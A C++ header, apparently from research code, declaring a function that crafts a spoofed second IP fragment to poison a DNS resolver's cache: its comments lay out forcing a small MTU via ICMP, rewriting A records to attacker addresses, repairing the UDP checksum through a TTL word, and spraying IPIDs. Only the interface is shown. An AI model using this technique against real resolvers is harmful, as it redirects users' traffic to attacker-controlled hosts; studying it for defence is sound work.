// Spoofed second-fragment construction (§III-2/3).
//
// Input: a *template* of the DNS response the nameserver will send to the
// victim resolver (the attacker obtains it by querying the nameserver
// itself — the response tail carrying the zone's NS/glue records does not
// vary per query, while the per-query fields (TXID, UDP checksum, rotated
// answers) all sit in the first fragment, which the attacker never
// touches).
//
// The crafter:
//  1. computes where the fragment boundary falls for the attacker-induced
//     path MTU;
//  2. rewrites every A-record rdata lying wholly inside the second
//     fragment to attacker-controlled addresses, and raises their TTLs;
//  3. repairs the ones' complement sum via a sacrificial word inside a
//     rewritten record's TTL field, so the UDP checksum in the first
//     fragment still verifies after reassembly;
//  4. emits the spoofed fragment (src = nameserver, MF = 0, matching
//     offset); the caller assigns sprayed IPID values.
#pragma once

#include <optional>
#include <vector>

#include "dns/message.h"
#include "net/ipv4.h"

namespace dnstime::attack {

struct CraftConfig {
  Ipv4Addr ns_addr;        ///< genuine nameserver (spoofed source)
  Ipv4Addr resolver_addr;  ///< victim resolver (destination)
  u16 mtu = 296;           ///< path MTU forced via ICMP
  /// Replacement addresses, cycled across rewritten records.
  std::vector<Ipv4Addr> malicious_addrs;
};

struct CraftedFragment {
  net::Ipv4Packet fragment;          ///< IPID left 0; caller sprays values
  std::size_t rewritten_records = 0; ///< A records redirected
  std::size_t first_fragment_payload = 0;  ///< bytes of datagram in f1
  std::size_t fix_offset_in_fragment = 0;  ///< where compensation landed
};

/// Build the spoofed fragment from the template DNS message bytes.
/// Returns nullopt when the attack is impossible for this response/MTU:
/// response does not fragment, no A-record rdata fully inside f2, or no
/// usable sacrificial TTL word.
[[nodiscard]] std::optional<CraftedFragment> craft_spoofed_second_fragment(
    std::span<const u8> template_dns_response, const CraftConfig& config);

}  // namespace dnstime::attack
